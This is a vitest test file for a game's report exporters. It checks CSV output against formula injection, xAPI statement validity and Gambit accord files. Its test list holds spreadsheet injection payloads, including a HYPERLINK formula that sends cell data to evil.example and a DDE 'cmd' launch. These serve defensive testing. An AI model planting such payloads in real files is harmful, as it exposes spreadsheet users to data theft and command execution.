import { describe, expect, it } from 'vitest';
import { csv } from '../../src/lab/csv';
import { ledgerCsv } from '../../src/report/data/ledger';
import { accordGames } from '../../src/report/data/nfg';
import { ordersCsv } from '../../src/report/data/orders';
import { outcomesCsv } from '../../src/report/data/outcomes';
import { xapiStatements } from '../../src/report/data/xapi';
import { golden } from './goldens';
import { hostile } from './hostile';

/** Cells of a CSV as a spreadsheet of any country parts them, without their quotes. */
function cellsOf(text: string, by: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const letter = text[at] ?? '';
    if (letter === '"' && (quoted || cell === '')) {
      if (quoted && text[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else quoted = !quoted;
    } else if (!quoted && (letter === by || letter === '\n' || letter === '\r')) {
      cells.push(cell);
      cell = '';
    } else cell += letter;
  }
  return [...cells, cell];
}

const live = (text: string): string[] =>
  [',', ';', '\t'].flatMap((by) =>
    cellsOf(text, by).filter(
      (cell) => /^[\s"]*[=+\-@＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?(e-?\d+)?$/.test(cell.trim()),
    ),
  );

const ATTACKS = [
  '=1+1',
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '"=1',
  '＝1+1',
  'a;=1',
  'a\t=1',
  'a\n=1',
  'a";=1',
  'a;"\'=1',
  'x,"\n@y',
];

describe('a CSV', () => {
  it.each(ATTACKS)('never makes a live formula of %j', (attack) => {
    const text = csv(
      ['a', 'b'],
      [
        ['x', attack],
        [attack, 'x'],
      ],
    );
    expect(live(text)).toEqual([]);
  });

  it('of a game with hostile names, reasons and texts has no live cell', () => {
    for (const attack of ATTACKS.slice(0, 12)) {
      const played = hostile(attack);
      for (const text of [ordersCsv(played), outcomesCsv(played), ledgerCsv(played)])
        expect(live(text), attack).toEqual([]);
    }
  });

  it('of the orders has every order of the record, and of the ledger every cause of every change', () => {
    const played = golden('radio-silence');
    const orders = ordersCsv(played).trim().split('\r\n');
    expect(orders[0]).toBe('ref,turn,step,kind,seat,name,player,slot,about,value');
    expect(orders).toContain('O-1.USA,1,0,act,USA,United States,status-quo,voices,intercept,object');
    const ledger = ledgerCsv(played).trim().split('\r\n');
    const causes = played.game.ledger.entries.reduce((sum, entry) => sum + entry.causes.length, 0);
    expect(ledger).toHaveLength(1 + causes);
    const outcomes = outcomesCsv(played).trim().split('\r\n');
    expect(outcomes).toHaveLength(1 + played.game.facts.length);
    // Numbers stay numbers, negative ones too.
    expect(ledger.some((row) => /,-\d/.test(row))).toBe(true);
  });
});

describe('xAPI statements', () => {
  const played = golden('radio-silence');
  const statements = xapiStatements(played);
  const IRI = /^https?:\/\/[a-z0-9.-]+(\/[\w./-]*)?$/;
  const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[1-5][0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;

  it('have what version 1.0.3 demands: an actor with one identifier, a verb and an object', () => {
    expect(statements.length).toBeGreaterThan(50);
    for (const { id, actor, verb, object, context } of statements) {
      expect(id).toMatch(UUID);
      expect(context.registration).toMatch(UUID);
      expect(
        Object.keys(actor).filter((key) => ['mbox', 'mbox_sha1sum', 'openid', 'account'].includes(key)),
      ).toEqual(['account']);
      expect(actor.account.homePage).toMatch(IRI);
      expect(verb.id).toMatch(/^http:\/\/adlnet\.gov\/expapi\/verbs\/(initialized|answered|completed)$/);
      expect(object.id).toMatch(IRI);
      expect(Object.keys(context.extensions as object).every((key) => IRI.test(key))).toBe(true);
    }
  });

  it('have ids of their own, the same whenever they are written', () => {
    expect(new Set(statements.map(({ id }) => id)).size).toBe(statements.length);
    expect(xapiStatements(golden('radio-silence')).map(({ id }) => id)).toEqual(
      statements.map(({ id }) => id),
    );
  });

  it('hold no null, no empty name and no address of anybody', () => {
    const text = JSON.stringify(statements);
    expect(text).not.toMatch(/null|mailto|@/);
    expect(text).not.toContain('""');
  });

  it('answer each choice with one of its answers, and say at the end who won', () => {
    const answered = statements.filter(({ verb }) => verb.id.endsWith('/answered'));
    for (const { object, result } of answered) {
      const { interactionType, choices } = object.definition as unknown as {
        interactionType: string;
        choices: { id: string }[];
      };
      expect(interactionType).toBe('choice');
      expect(choices.map(({ id }) => id)).toContain(result?.response);
    }
    const completed = statements.filter(({ verb }) => verb.id.endsWith('/completed'));
    expect(completed).toHaveLength(7);
    expect(completed.filter(({ result }) => result?.success === true)).toHaveLength(3);
  });

  it('are by the name a person gave, without more of them', () => {
    const named = xapiStatements(hostile('Ada'));
    expect(named[0]?.actor).toEqual({
      objectType: 'Agent',
      name: 'Ada',
      account: { homePage: 'https://standard-bearers.invalid', name: 'FIN Ada' },
    });
  });
});

describe('the accords for Gambit', () => {
  it('are one file each, with as many outcomes as there are profiles', () => {
    const games = accordGames(golden('radio-silence'));
    expect(games.map(({ accord }) => accord)).toEqual(['trusted-5g-fund', 'price-pact']);
    for (const { text } of games) expect(text).toMatch(/^NFG 1 R "Radio Silence: /);
    expect(games[0]?.text.trim().split('\n').at(-1)?.split(' ')).toHaveLength(16);
  });
});
